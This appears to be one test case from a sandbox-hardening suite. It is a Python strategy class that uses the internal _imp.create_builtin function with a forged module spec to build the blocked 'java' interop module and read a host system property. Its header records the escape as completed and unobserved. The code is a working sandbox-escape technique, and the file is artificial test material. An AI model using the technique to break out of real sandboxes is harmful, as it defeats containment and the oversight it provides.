# id: J03
# family: interop
# goal: make the java module by the import machinery's own function
# finding: PY105 PY302 PY306
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


def attack(ctx, bar):
    import _imp
    import sys

    spec = type(sys.__spec__)("java", sys.__spec__.loader)
    made = _imp.create_builtin(spec)
    return made.type("java.lang.System").getProperty("user.dir")


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
